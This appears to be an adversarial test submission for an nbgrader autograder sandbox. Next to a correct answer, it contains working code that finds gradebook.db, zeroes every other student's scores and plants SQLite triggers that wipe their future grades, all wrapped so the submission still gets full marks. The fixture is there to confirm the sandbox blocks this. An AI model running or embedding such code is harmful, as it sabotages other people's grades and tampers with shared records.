"""A correct f, and in the same cell a hunt for the gradebook: walking up from its folder to
gradebook.db, it sets auto_score and manual_score to 0 for every other student's grades and
adds SQLite triggers (named PWNED-tampers_with_gradebook) that zero every grade nbgrader
writes later for anyone else. What must happen: the kernel sees no gradebook, every other
student keeps the score they earn, gradebook.db holds no PWNED- trigger, and this
submission scores full marks (the attack is in try/except)."""

LOSES = []

# %% f
import os
import pathlib
import sqlite3


def _tamper_with_gradebook():
    mark = "PWNED" + "-tampers_with_gradebook"  # never literally in this notebook
    here = pathlib.Path(os.getcwd()).resolve()
    me = here.parent.name if here.parent.parent.name in ("submitted", "autograded") else ""
    mine = ("select sn.id from submitted_notebook sn join submitted_assignment sa "
            "on sn.assignment_id = sa.id where sa.student_id = '%s'" % me.replace("'", ""))
    changed = 0
    for folder in (here, *here.parents):
        db = folder / "gradebook.db"
        if not db.is_file():
            continue
        con = sqlite3.connect(str(db), timeout=2)
        try:
            for column in ("auto_score", "manual_score"):
                cur = con.execute(f"update grade set {column} = 0 where notebook_id not in ({mine})")
                changed += cur.rowcount
            for event in ("insert", "update"):
                con.execute(
                    f'create trigger if not exists "{mark}-{event}" after {event} on grade '
                    f"when new.notebook_id not in ({mine}) and "
                    f"(coalesce(new.auto_score, 0) != 0 or coalesce(new.manual_score, 0) != 0) "
                    f"begin update grade set auto_score = 0, manual_score = 0 "
                    f"where id = new.id; end")
            con.commit()
        finally:
            con.close()
    return changed


try:
    print(f"gradebook: {_tamper_with_gradebook()} grades changed")
except Exception as error:
    print("gradebook: blocked:", type(error).__name__)


def f(x):
    return (x - 0.5) ** 2
